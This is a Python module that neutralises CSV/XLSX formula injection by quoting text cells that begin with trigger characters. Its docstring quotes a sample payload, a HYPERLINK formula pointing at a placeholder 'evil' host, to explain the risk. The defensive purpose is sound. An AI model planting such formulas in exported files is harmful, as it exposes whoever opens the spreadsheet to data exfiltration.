"""Spreadsheet safety shared by the CSV and XLSX writers.

Why: model ids, revisions, reasons and error messages come from users and from
remote configs.  A text cell beginning with ``=``, ``+``, ``-`` or ``@`` (or a
tab / carriage return, which some spreadsheets strip before parsing) is run as
a formula when the file is opened — ``=HYPERLINK("http://evil", "click")``
exfiltrates data.  The OWASP "CSV injection" advice is to prefix such cells
with a single quote so they are shown as text.  Only text columns are touched:
numbers stay numbers, so a negative headroom is still a negative number.
"""

from __future__ import annotations

import polars as pl

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_TRIGGER_RE = r"^[=+\-@\t\r]"


def neutralise_formula_expr(col: str) -> pl.Expr:
    """The expression that quotes one text column's formula-like values."""
    c = pl.col(col)
    return pl.when(c.str.contains(_TRIGGER_RE)).then(pl.lit("'") + c).otherwise(c).alias(col)


def neutralise_formula(df: pl.DataFrame) -> pl.DataFrame:
    """Return ``df`` with every String cell that a spreadsheet would evaluate prefixed by ``'``.

    Column order, dtypes and nulls are unchanged; non-text columns are untouched.
    """
    text = [name for name, dtype in df.schema.items() if dtype == pl.String]
    if not text:
        return df
    return df.with_columns([neutralise_formula_expr(c) for c in text])
